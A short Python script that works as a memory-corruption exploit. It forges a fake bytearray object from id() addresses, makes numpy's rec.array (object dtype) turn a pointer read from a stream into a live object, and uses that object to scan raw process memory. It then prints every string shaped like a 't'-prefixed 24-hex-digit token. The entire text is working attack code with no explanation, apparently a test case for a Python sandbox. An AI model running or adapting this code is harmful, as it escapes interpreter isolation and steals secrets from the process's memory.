# reaches: records are read from a stream into objects
import re
import numpy as np
fake = np.array([1 << 20, id(bytearray), 1 << 17, 1 << 17, id(len), id(len), 0], "u8").tobytes()
place = (id(fake) + 32).to_bytes(8, "little")
import io
made = np.rec.array(io.BytesIO(place), formats="O", shape=1)[0][0]
print(set(re.findall(rb"t[0-9a-f]{24}", made)))
